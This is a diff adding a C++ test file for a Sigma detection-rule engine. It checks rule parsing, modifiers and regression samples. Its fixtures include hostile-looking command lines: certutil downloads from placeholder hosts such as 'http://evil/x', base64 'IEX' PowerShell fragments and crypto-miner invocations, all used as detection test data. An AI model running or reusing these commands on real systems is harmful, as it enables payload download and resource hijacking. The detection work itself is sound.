@@ -1,0 +1,239 @@
+#include "detect/sigma/sigma.h"
+
+#include <gtest/gtest.h>
+#include <yaml-cpp/yaml.h>
+
+#include <filesystem>
+#include <iostream>
+#include <map>
+
+#include "core/mapped_file.h"
+#include "formats/evtx/evtx.h"
+#include "normalize/evtx.h"
+
+namespace msw::detect::sigma {
+namespace {
+namespace fs = std::filesystem;
+
+model::Event sysmon1(std::initializer_list<std::pair<std::string, std::string>> fields) {
+  model::Event e;
+  e.product = "windows";
+  e.service = "microsoft-windows-sysmon/operational";
+  e.set(model::Field::EventID, "1");
+  for (const auto& [k, v] : fields) e.set(std::string_view(k), v);
+  return e;
+}
+
+Rule one(std::string_view yaml) {
+  Diagnostics d;
+  auto rules = load_rules(yaml, "test.yml", d);
+  for (const auto& x : d.items()) ADD_FAILURE() << x.detail;
+  EXPECT_EQ(rules.size(), 1u);
+  return rules.empty() ? Rule{} : rules[0];
+}
+
+TEST(Sigma, SelectionsModifiersAndConditions) {
+  Rule r = one(R"(title: certutil download
+id: 1
+logsource: {category: process_creation, product: windows}
+detection:
+  selection_img:
+    - Image|endswith: '\certutil.exe'
+    - OriginalFileName: 'CertUtil.exe'
+  selection_flags:
+    CommandLine|contains: ['urlcache ', 'verifyctl ']
+  selection_http:
+    CommandLine|contains: 'http'
+  filter:
+    CommandLine|contains|all: ['microsoft.com', 'update']
+  condition: all of selection_* and not filter
+level: high
+tags: [attack.t1105]
+)");
+  EXPECT_TRUE(rule_matches(r, sysmon1({{"Image", "C:\\Windows\\System32\\CERTUTIL.exe"},
+                                       {"CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"}})));
+  EXPECT_FALSE(rule_matches(r, sysmon1({{"Image", "C:\\x\\certutil.exe"}, {"CommandLine", "certutil -dump"}})));
+  EXPECT_FALSE(rule_matches(r, sysmon1({{"Image", "C:\\x\\certutil.exe"},
+                                        {"CommandLine", "certutil -urlcache http://microsoft.com/update"}})));
+  // Security 4688 carries the same facts under its own names.
+  model::Event sec;
+  sec.product = "windows";
+  sec.service = "security";
+  sec.set(model::Field::EventID, "4688");
+  sec.set(std::string_view("NewProcessName"), "C:\\Windows\\System32\\certutil.exe");
+  sec.set(model::Field::CommandLine, "certutil.exe -verifyctl -f http://evil/x");
+  EXPECT_TRUE(rule_matches(r, sec));
+  model::Event wrong_channel = sysmon1({{"Image", "x\\certutil.exe"}, {"CommandLine", "urlcache http"}});
+  wrong_channel.set(model::Field::EventID, "3");
+  EXPECT_FALSE(rule_matches(r, wrong_channel));
+}
+
+TEST(Sigma, WildcardsEscapesRegexNumbersAndNull) {
+  Rule r = one(R"(title: t
+logsource: {product: windows, service: security}
+detection:
+  a: {TargetUserName: 'adm?n*', Status|re: '^0xC000007[12]$'}
+  b: {LogonType|gte: 10}
+  c: {WorkstationName: null}
+  d: {TargetUserName: 'lit\*eral'}
+  condition: (a and b) or (c and d)
+)");
+  model::Event e;
+  e.product = "windows";
+  e.service = "security";
+  e.set(model::Field::TargetUserName, "Administrator");
+  e.set(model::Field::Status, "0xC0000071");
+  e.set(model::Field::LogonType, "10");
+  EXPECT_TRUE(rule_matches(r, e));
+  e.set(model::Field::LogonType, "3");
+  EXPECT_FALSE(rule_matches(r, e));
+  model::Event lit;
+  lit.product = "windows";
+  lit.service = "security";
+  lit.set(model::Field::TargetUserName, "lit*eral");
+  EXPECT_TRUE(rule_matches(r, lit));  // no WorkstationName: null matches
+  lit.set(model::Field::TargetUserName, "litXeral");
+  EXPECT_FALSE(rule_matches(r, lit));
+}
+
+TEST(Sigma, Base64OffsetWindashCidrKeywordsAndLinux) {
+  Rule b64 = one(R"(title: t
+logsource: {category: process_creation, product: windows}
+detection:
+  s: {CommandLine|base64offset|contains: 'IEX'}
+  w: {CommandLine|windash|contains: ' -enc '}
+  condition: s or w
+)");
+  // "IEX (New" at three offsets inside a base64 blob
+  for (std::string blob : {"SUVYIChOZXc=", "IElFWCAoTmV3", "ICBJRVggKE5ldw=="})
+    EXPECT_TRUE(rule_matches(b64, sysmon1({{"CommandLine", "powershell -e " + blob}}))) << blob;
+  EXPECT_TRUE(rule_matches(b64, sysmon1({{"CommandLine", "powershell /enc AAAA"}})));
+  Rule net = one(R"(title: t
+logsource: {category: network_connection, product: linux}
+detection:
+  s: {DestinationIp|cidr: '203.0.113.0/24', DestinationPort: 3333}
+  condition: s
+)");
+  model::Event c;
+  c.category = "network_connection";
+  c.product = "linux";
+  c.set(model::Field::DestinationIp, "203.0.113.77");
+  c.set(model::Field::DestinationPort, "3333");
+  EXPECT_TRUE(rule_matches(net, c));
+  c.set(model::Field::DestinationIp, "203.0.114.1");
+  EXPECT_FALSE(rule_matches(net, c));
+  Rule kw = one(R"(title: t
+logsource: {product: linux, service: auth}
+detection:
+  keywords: ['Failed password for invalid user']
+  condition: keywords
+)");
+  model::Event a;
+  a.product = "linux";
+  a.service = "auth";
+  a.set(model::Field::Message, "Nov 1 sshd[1]: Failed password for invalid user x from 1.2.3.4");
+  EXPECT_TRUE(rule_matches(kw, a));
+}
+
+TEST(Sigma, UnsupportedRulesAreReportedNotFatal) {
+  Diagnostics d;
+  auto rules = load_rules(R"(title: a
+logsource: {product: windows}
+detection: {s: {x|frobnicate: 1}, condition: s}
+---
+title: b
+logsource: {product: windows}
+detection: {s: {x: 1}, condition: s | count() > 5}
+---
+title: c
+logsource: {product: windows}
+detection: {s: {x: 1}, condition: s}
+---
+: : not yaml [
+)",
+                          "multi.yml", d);
+  EXPECT_EQ(rules.size(), 1u);
+  EXPECT_GE(d.size(), 2u);
+}
+
+// SigmaHQ's regression data: for each sample, the rule its info.yml names must fire on its EVTX.
+TEST(SigmaCorpus, RegressionSamplesFireTheirRules) {
+  const fs::path root = fs::path(MSW_CORPUS_DIR) / "sigma/sigmahq";
+  if (!fs::exists(root / "regression_data")) GTEST_SKIP() << "corpus not present";
+  Diagnostics d;
+  std::vector<std::string> dirs;
+  for (const char* sub : {"rules", "rules-emerging-threats", "rules-threat-hunting", "rules-compliance", "rules-placeholder"})
+    if (fs::exists(root / sub)) dirs.push_back((root / sub).string());
+  auto rules = load_rule_paths(dirs, d);
+  std::map<std::string, const Rule*> by_id;
+  for (const auto& r : rules) by_id[r.id] = &r;
+  size_t windows_total = 0, windows_loaded = 0;
+  for (const auto& r : rules)
+    if (r.logsource.product == "windows") ++windows_loaded;
+  windows_total = windows_loaded;
+  for (const auto& x : d.items())
+    if (x.code == "sigma.unsupported" && x.evidence.find("/windows/") != std::string::npos) ++windows_total;
+  size_t samples = 0, fired = 0;
+  std::vector<std::string> misses;
+  for (fs::recursive_directory_iterator it(root / "regression_data"), end; it != end; ++it) {
+    if (it->path().filename() != "info.yml") continue;
+    YAML::Node info = YAML::LoadFile(it->path().string());
+    const std::string id = info["rule_metadata"][0]["id"].as<std::string>();
+    for (const auto& t : info["regression_tests_info"]) {
+      if (t["type"].as<std::string>() != "evtx") continue;
+      ++samples;
+      const fs::path evtx = root / t["path"].as<std::string>();
+      auto rit = by_id.find(id);
+      if (rit == by_id.end()) {
+        misses.push_back(id + " (rule did not load)");
+        continue;
+      }
+      auto file = MappedFile::open(evtx.string());
+      if (!file) {
+        misses.push_back(id + " (no evtx)");
+        continue;
+      }
+      Diagnostics pd;
+      auto fi = formats::evtx::read_file_info(file->bytes(), evtx.string(), pd);
+      bool hit = false;
+      if (fi) {
+        formats::evtx::ChunkParser parser(file->bytes(), evtx.string());
+        for (uint32_t c = 0; c < fi->chunks_in_file && !hit; ++c)
+          parser.parse_chunk(c, false, pd, [&](const formats::evtx::Record& rec) {
+            model::Event ev;
+            normalize::evtx_record_event(rec, evtx.string(), ev);
+            hit = hit || rule_matches(*rit->second, ev);
+          });
+      }
+      if (hit) ++fired;
+      else misses.push_back(id + " " + rit->second->title);
+    }
+  }
+  std::cout << "sigma regression: " << fired << "/" << samples << " samples fire their rule; Windows rules loaded "
+            << windows_loaded << "/" << windows_total << "\n";
+  for (size_t i = 0; i < misses.size() && i < 40; ++i) std::cout << "  miss: " << misses[i] << "\n";
+  EXPECT_GE(samples, 200u);
+  EXPECT_EQ(fired, samples) << "every regression sample must fire its rule";
+  EXPECT_GE(windows_loaded * 100, windows_total * 99) << "at least 99% of SigmaHQ's Windows rules load";
+}
+
+TEST(Sigma, BuiltInRulesLoadAndFire) {
+  Diagnostics d;
+  auto rules = load_rule_paths({std::string(MSW_SOURCE_DIR) + "/data/rules/sigma"}, d);
+  EXPECT_EQ(d.size(), 0u);
+  ASSERT_EQ(rules.size(), 5u);
+  const Rule* miner = nullptr;
+  for (const auto& r : rules)
+    if (r.title == "Crypto Miner Command Line") miner = &r;
+  ASSERT_TRUE(miner);
+  model::Event linux_proc;
+  linux_proc.category = "process_creation";
+  linux_proc.product = "linux";
+  linux_proc.set(model::Field::CommandLine, "/tmp/kdevtmpfsi -o pool.example:3333 -u 4" + std::string(94, 'A') + " -k");
+  EXPECT_TRUE(rule_matches(*miner, linux_proc));
+  EXPECT_TRUE(rule_matches(*miner, sysmon1({{"CommandLine", "x.exe -o stratum+tcp://p:3333"}})));
+  EXPECT_FALSE(rule_matches(*miner, sysmon1({{"CommandLine", "notepad.exe"}})));
+}
+
+}  // namespace
+}  // namespace msw::detect::sigma
